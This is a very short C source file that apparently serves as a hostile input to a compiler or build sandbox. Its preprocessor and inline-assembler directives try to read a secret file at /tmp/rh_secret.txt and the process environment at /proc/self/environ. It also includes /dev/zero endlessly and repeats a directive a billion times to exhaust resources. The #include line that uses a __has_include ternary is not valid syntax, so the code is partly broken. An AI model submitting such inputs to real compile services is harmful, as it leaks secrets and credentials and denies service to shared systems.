// compile; alive secret; asks the compiler and the assembler for files and devices without end
#include __has_include("/tmp/rh_secret.txt") ? "/tmp/rh_secret.txt" : "/proc/self/environ"
asm(".incbin \"/dev/zero\"");
asm(".include \"/proc/self/environ\"");
asm(".rept 1000000000\n.quad 1\n.endr");
int main() {}
